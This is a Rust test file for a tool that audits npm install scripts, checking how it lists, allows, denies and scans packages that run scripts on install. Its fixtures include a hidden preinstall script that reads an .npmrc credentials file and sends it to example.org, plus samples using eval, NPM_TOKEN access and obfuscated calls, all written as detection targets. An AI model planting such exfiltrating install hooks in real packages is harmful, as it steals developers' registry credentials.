use nodeward_testkit::Project;
use serde_json::Value;

use crate::harness::{Ran, World};

const LOCK: &str = r#"{"name":"shop","lockfileVersion":3,"packages":{
"":{"name":"shop","dependencies":{"banner":"1.0.0","top":"1.0.0"},"devDependencies":{"builds":"1.0.0"}},
"node_modules/banner":{"version":"1.0.0","hasInstallScript":true},
"node_modules/builds":{"version":"1.0.0","dev":true,"hasInstallScript":true},
"node_modules/mac":{"version":"1.0.0","optional":true,"hasInstallScript":true},
"node_modules/sly":{"version":"1.0.0"},
"node_modules/top":{"version":"1.0.0","hasInstallScript":true,"dependencies":{"sly":"1.0.0"},"optionalDependencies":{"mac":"1.0.0"}}}}"#;

fn manifest(name: &str, scripts: &str, more: &str) -> String {
    format!(r#"{{"name":"{name}","version":"1.0.0","scripts":{scripts}{more}}}"#)
}

/// A project with a package of each sort, installed by npm.
fn shop() -> Project {
    Project::empty()
        .file("package.json", r#"{"name":"shop","scripts":{"prepare":"husky"},"dependencies":{"banner":"1.0.0","top":"1.0.0"},"devDependencies":{"builds":"1.0.0"}}"#)
        .file("package-lock.json", LOCK)
        .file("node_modules/banner/package.json", manifest("banner", r#"{"postinstall":"node say.js"}"#, ""))
        .file("node_modules/banner/say.js", "console.log('thanks')")
        .file("node_modules/builds/package.json", manifest("builds", "{}", ""))
        .file("node_modules/builds/binding.gyp", "{'targets': []}")
        .file("node_modules/sly/package.json", manifest("sly", r#"{"preinstall":"node x.js"}"#, ""))
        .file("node_modules/sly/x.js", "require('https').get('https://example.org/' + require('fs').readFileSync('/a/.npmrc'))")
        .file("node_modules/top/package.json", manifest("top", r#"{"install":"exit 0"}"#, r#","dependencies":{"sly":"1.0.0"}"#))
}

fn list(project: &Project, arguments: &[&str]) -> Ran {
    let mut all = vec!["install-scripts", "--offline"];
    all.extend(arguments);
    World::new().run(&all, project.path())
}

fn json(project: &Project) -> Value {
    let ran = list(project, &["--format", "json"]);
    serde_json::from_str(&ran.out).unwrap_or_else(|error| panic!("{error}: {}{}", ran.out, ran.err))
}

fn packages(document: &Value) -> &Vec<Value> {
    document["projects"][0]["packages"].as_array().unwrap()
}

#[track_caller]
fn package<'v>(document: &'v Value, name: &str) -> &'v Value {
    packages(document)
        .iter()
        .find(|package| package["name"] == name)
        .unwrap_or_else(|| panic!("{name}: {document}"))
}

fn state(project: &Project, name: &str) -> String {
    package(&json(project), name)["state"].as_str().unwrap().to_owned()
}

#[test]
fn everything_that_runs_is_listed_dependencies_first() {
    let project = shop();
    list(&project, &[]).expect(1);
    let document = json(&project);
    assert_eq!(document["schema"], "nodeward.install-scripts/1");
    let names: Vec<&str> =
        packages(&document).iter().map(|package| package["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["banner", "sly", "top", "builds", "mac", "shop"]);
    let banner = package(&document, "banner");
    assert_eq!(banner["scripts"][0]["summary"], "prints");
    assert_eq!(banner["files"], serde_json::json!(["say.js"]));
    assert_eq!((banner["file"].as_str(), banner["line"].as_u64()), (Some("package-lock.json"), Some(3)));
    let builds = package(&document, "builds");
    assert_eq!((&builds["scripts"][0]["implicit"], &builds["production"]), (&true.into(), &false.into()));
    assert_eq!(package(&document, "sly")["path"], serde_json::json!(["shop", "top@1.0.0", "sly@1.0.0"]));
    let mac = package(&document, "mac");
    assert_eq!((&mac["folders"], &mac["open"]), (&serde_json::json!([]), &false.into()));
    assert_eq!((state(&project, "shop"), state(&project, "banner")), ("own".into(), "undecided".into()));
}

#[test]
fn scripts_that_the_lockfile_denies_are_hidden() {
    let document = json(&shop());
    for package in packages(&document) {
        assert_eq!(package["hidden"] == true, package["name"] == "sly", "{package}");
    }
    assert!(list(&shop(), &[]).out.contains("hidden: the lockfile says that it has no scripts"));
}

#[test]
fn what_is_allowed_is_written_down_and_holds_for_these_scripts_alone() {
    let before = "# ours\n[project] # shop\nname = \"shop\"\n\n[[install.deny]]\npackage = \"sly\"\nreason = \"no\" # never\n";
    let project = shop().file("nodeward.toml", before);
    for name in ["banner", "top", "builds"] {
        list(&project, &["--allow", name, "--reason", "looked \"at\"", "--network", "a.example.org"])
            .expect(0);
    }
    let after = project.read("nodeward.toml");
    assert!(after.starts_with(before), "{after}");
    assert!(after.contains("network = [\"a.example.org\"]"), "{after}");
    list(&project, &[]).expect(0);
    assert_eq!((state(&project, "banner"), state(&project, "sly")), ("allowed".into(), "denied".into()));

    let project = project.file("node_modules/banner/say.js", "console.log('more thanks')");
    let ran = list(&project, &[]).expect(1);
    assert!(ran.out.contains("its files are others than those that were allowed"), "{}", ran.out);
    assert_eq!(package(&json(&project), "banner")["changed"]["content"], "differ");
    list(&project, &["--allow", "banner", "--reason", "looked again", "--until", "2026-11-22"]).expect(0);
    let after = project.read("nodeward.toml");
    assert_eq!(after.matches("package = \"banner\"").count(), 1, "{after}");
    assert!(after.starts_with(before) && after.contains("looked again"), "{after}");
    let project = project.file("nodeward.toml", after.replace("2026-11-22", "2026-11-21"));
    assert_eq!(state(&project, "banner"), "expired");
}

#[test]
fn another_version_with_the_same_scripts_is_told_so() {
    let project = shop();
    list(&project, &["--allow", "banner", "--reason", "x"]).expect(0);
    let project = project
        .file(
            "package-lock.json",
            LOCK.replacen(r#"banner":{"version":"1.0.0""#, r#"banner":{"version":"1.0.1""#, 1),
        )
        .file(
            "node_modules/banner/package.json",
            manifest("banner", r#"{"postinstall":"node say.js"}"#, "").replace("1.0.0", "1.0.1"),
        );
    let document = json(&project);
    let changed = &package(&document, "banner")["changed"];
    assert_eq!((&changed["versions"], &changed["content"]), (&serde_json::json!(["1.0.0"]), &"same".into()));
}

#[test]
fn what_is_allowed_is_given_hosts_and_a_last_day() {
    let project = shop();
    list(&project, &["--allow", "banner", "--reason", "x"]).expect(0);
    let hosts = ["--allow", "banner", "--reason", "fetches", "--network", "registry.example.org"];
    list(&project, &hosts).expect(0);
    list(&project, &["--allow", "banner", "--reason", "for now", "--until", "2027-01-31"]).expect(0);
    let after = project.read("nodeward.toml");
    assert_eq!(after.matches("[[install.allow]]").count(), 1, "{after}");
    for expected in ["reason = \"for now\"", "network = [\"registry.example.org\"]", "until = \"2027-01-31\""]
    {
        assert!(after.contains(expected), "{after}");
    }
    let ran = list(&project, &hosts).expect(0);
    assert!(ran.err.contains("banner@1.0.0 is allowed already"), "{}", ran.err);
    assert_eq!(project.read("nodeward.toml"), after);
    let several = after.replace("version = \"1.0.0\"", "version = [\"1.0.0\", \"1.0.1\"]");
    let project = project.file("nodeward.toml", several.clone());
    let ran = list(&project, &["--allow", "banner", "--reason", "x", "--until", "2027-02-28"]).expect(2);
    assert!(ran.err.contains("is allowed there together with other versions"), "{}", ran.err);
    assert_eq!(project.read("nodeward.toml"), several);
}

#[test]
fn lists_are_what_their_schema_says() {
    let file = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../docs/formats/install-scripts-1.schema.json");
    let schema: Value = serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    // Lists and texts that are empty, an entry of every sort, one that changed.
    let project =
        shop().file("node_modules/top/package.json", manifest("top", r#"{"install":"eval \"$X\""}"#, ""));
    let mut kinds = std::collections::BTreeSet::new();
    for arguments in [&["--allow", "banner", "--reason", "x"][..], &["--deny", "top", "--reason", "x"], &[]] {
        if arguments.is_empty() {
            std::fs::write(project.join("node_modules/banner/say.js"), "console.log(1)").unwrap();
        } else {
            list(&project, arguments).expect(0);
        }
        let document = json(&project);
        let errors: Vec<String> = validator
            .iter_errors(&document)
            .map(|error| format!("{error} at {}", error.instance_path()))
            .collect();
        assert!(errors.is_empty(), "{errors:#?}");
        kinds.extend(packages(&document).iter().map(|package| package["state"].as_str().unwrap().to_owned()));
    }
    let expected = ["allowed", "changed", "denied", "own", "undecided"];
    assert_eq!(kinds.iter().map(String::as_str).collect::<Vec<_>>(), expected);
}

#[test]
fn what_cant_be_allowed() {
    let project = shop();
    for (arguments, expected) in [
        (&["--allow", "mac", "--reason", "x"][..], ""),
        (&["--allow", "nothing", "--reason", "x"], "runs no script"),
        (&["--allow", "banner", "--reason", " "], "--reason is empty"),
        (&["--allow", "shop", "--reason", "x"], "the project's own"),
        (&["--allow", "banner", "--reason", "x", "--network", "https://example.org"], "is a URL"),
        (
            &["--allow", "banner", "--reason", "x", "--network", "localhost"],
            "localhost is the sandbox itself",
        ),
        (&["--allow", "banner", "--reason", "x", "--network", "0.0.0.0"], "0.0.0.0"),
        (&["--allow", "banner", "--reason", "x", "--until", "2026-11-21"], "--until 2026-11-21 is past"),
    ] {
        let ran = list(&project, arguments);
        assert!(
            expected.is_empty() || ran.code == 2 && ran.err.contains(expected),
            "{arguments:?}: {}",
            ran.err
        );
        assert!(!project.join("nodeward.toml").exists(), "{arguments:?}");
    }
    let inline = shop().file("nodeward.toml", "install = { deny = [{ package = \"x\", reason = \"y\" }] }\n");
    let ran = list(&inline, &["--allow", "banner", "--reason", "x"]).expect(2);
    assert!(ran.err.contains("nodeward.toml has `allow = […]` or `deny = […]`"), "{}", ran.err);
    assert_eq!(inline.read("nodeward.toml").lines().count(), 1, "nothing was written");
}

#[test]
fn a_manifest_may_claim_any_name_and_is_not_believed() {
    let project = shop()
        .file("node_modules/sly/package.json", manifest("banner", r#"{"postinstall":"node say.js"}"#, ""));
    let project = project.file("node_modules/sly/say.js", "console.log('thanks')");
    list(&project, &["--allow", "banner", "--reason", "x"]).expect(0);
    assert_eq!((state(&project, "banner"), state(&project, "sly")), ("allowed".into(), "undecided".into()));
    assert_eq!(package(&json(&project), "sly")["claims"], "banner");
}

#[test]
fn explained() {
    let ran = list(&shop(), &["--explain", "sly"]).expect(1);
    for expected in [
        "preinstall: node x.js",
        "credentials: .npmrc  (x.js:1)",
        "downloads: example.org  (x.js:1)",
        "hash: sha256-",
    ] {
        assert!(ran.out.contains(expected), "{expected}: {}", ran.out);
    }
    let ran = list(&shop(), &["--explain", "banner"]).expect(1);
    assert!(ran.out.contains("nothing is missed: it only prints"), "{}", ran.out);
    list(&shop(), &["--explain", "nothing"]).expect(2);
}

#[cfg(unix)]
#[test]
fn a_store_with_links() {
    let lock = "lockfileVersion: '9.0'\n\nimporters:\n  .:\n    dependencies:\n      a:\n        specifier: 1.0.0\n        version: 1.0.0\n\npackages:\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n\nsnapshots:\n  a@1.0.0: {}\n";
    let project = Project::empty()
        .file(
            "package.json",
            r#"{"name":"shop","dependencies":{"a":"1.0.0"},"pnpm":{"onlyBuiltDependencies":["a"]}}"#,
        )
        .file("pnpm-lock.yaml", lock)
        .file(
            "node_modules/.pnpm/a@1.0.0/node_modules/a/package.json",
            manifest("a", r#"{"postinstall":"echo hi"}"#, ""),
        );
    std::os::unix::fs::symlink(".pnpm/a@1.0.0/node_modules/a", project.join("node_modules/a")).unwrap();
    let document = json(&project);
    assert_eq!(packages(&document).len(), 1, "{document}");
    let a = package(&document, "a");
    assert_eq!((&a["package_manager"]["runs"], &a["hidden"]), (&true.into(), &false.into()));
    assert_eq!(a["folders"], serde_json::json!(["node_modules/.pnpm/a@1.0.0/node_modules/a"]));
}

#[test]
fn what_is_not_installed_is_told_as_far_as_the_lockfile_does() {
    let project = Project::empty().file("package.json", r#"{"name":"shop"}"#).file("package-lock.json", LOCK);
    let ran = list(&project, &[]).expect(1);
    assert!(ran.out.contains("not installed: what it runs was not read"), "{}", ran.out);
    let ran = list(&project, &["--allow", "banner", "--reason", "x"]).expect(2);
    assert!(ran.err.contains("install with scripts off"), "{}", ran.err);
    let yarn = "# yarn lockfile v1\n\n\na@^1.0.0:\n  version \"1.0.0\"\n  resolved \"https://registry.example.org/a/-/a-1.0.0.tgz\"\n";
    let project = Project::empty()
        .file("package.json", r#"{"name":"shop","dependencies":{"a":"^1.0.0"}}"#)
        .file("yarn.lock", yarn);
    let ran = list(&project, &[]).expect(2);
    assert!(ran.out.contains("the lockfile does not tell of scripts (1): a@1.0.0"), "{}", ran.out);
}

#[test]
fn what_cant_be_read_is_a_gap() {
    let project = shop().file("node_modules/banner/package.json", "{ not json");
    let ran = list(&project, &["--format", "json"]);
    let document: Value = serde_json::from_str(&ran.out).unwrap();
    assert!(document["gaps"].to_string().contains("banner"), "{document}");
    // Although others wait for a decision: nobody can say what more there is to decide.
    let ran = list(&project, &["--format", "markdown"]).expect(2);
    assert!(ran.out.contains("- not checked: "), "{}", ran.out);
    let deep = format!(r#"{{"name":"banner","x":{}{}}}"#, "[".repeat(3000), "]".repeat(3000));
    let project = project.file("node_modules/banner/package.json", deep);
    let ran = list(&project, &["--allow", "banner", "--reason", "x"]).expect(2);
    assert!(
        ran.err.contains("banner@1.0.0 can't be read: ") && ran.err.contains("nested deeper"),
        "{}",
        ran.err
    );
}

/// `severity title` of what a scan says of install scripts.
fn scanned(project: &Project) -> Vec<String> {
    let report = World::with_advisories(&[&crate::harness::lodash()]).json(project, &[]);
    let findings = report["findings"].as_array().unwrap();
    let about =
        findings.iter().filter(|finding| finding["id"].as_str().unwrap().starts_with("install-script"));
    about
        .map(|finding| {
            format!(
                "{} {} {}",
                finding["id"].as_str().unwrap(),
                finding["severity"].as_str().unwrap(),
                finding["title"].as_str().unwrap()
            )
        })
        .collect()
}

#[test]
fn a_scan_tells_each_script_once_and_none_that_is_allowed() {
    let project = shop().file(".npmrc", "ignore-scripts=true\n");
    let sly = "install-script-hidden high sly@1.0.0 runs a script that the lockfile does not know of";
    let runs = |label: &str| format!("install-script info {label} runs a script when installed");
    let mut expected = vec![
        sly.to_owned(),
        runs("banner@1.0.0"),
        runs("builds@1.0.0"),
        runs("mac@1.0.0"),
        runs("top@1.0.0"),
    ];
    expected.sort();
    let mut found = scanned(&project);
    found.sort();
    assert_eq!(found, expected);

    for name in ["banner", "top"] {
        list(&project, &["--allow", name, "--reason", "x"]).expect(0);
    }
    let config = project.read("nodeward.toml") + "\n[[install.deny]]\npackage = \"sly\"\nreason = \"no\"\n";
    let project = project.file("nodeward.toml", config).file("node_modules/banner/say.js", "eval(x)");
    let project = project
        .file(
            "package-lock.json",
            LOCK.replacen(r#"top":{"version":"1.0.0""#, r#"top":{"version":"1.0.1""#, 1),
        )
        .file(
            "node_modules/top/package.json",
            manifest("top", r#"{"install":"exit 0"}"#, "").replace("1.0.0", "1.0.1"),
        );
    let mut found = scanned(&project);
    found.sort();
    assert_eq!(
        found,
        [
            "install-script info builds@1.0.0 runs a script when installed",
            "install-script info mac@1.0.0 runs a script when installed",
            "install-script-changed info top@1.0.1 has the install scripts of an allowed version",
            "install-script-changed medium banner@1.0.0 is not as it was when it was allowed",
        ]
    );
}

#[test]
fn a_scan_says_how_bad_a_script_is() {
    let of = |code: &str| {
        let project = shop().file("node_modules/banner/say.js", code);
        let found = scanned(&project);
        found.iter().find(|line| line.contains(" banner@")).unwrap().split(' ').nth(1).unwrap().to_owned()
    };
    assert_eq!(of("fetch('https://example.org')"), "info");
    assert_eq!(of("f(process.env.NPM_TOKEN)"), "low");
    assert_eq!(of("fetch('https://example.org'); f('/x/.npmrc')"), "medium");
    assert_eq!(of("eval(x)"), "medium");
    assert_eq!(of(&(0..20).map(|at| format!("_0x{at:04x}();")).collect::<String>()), "high");
}
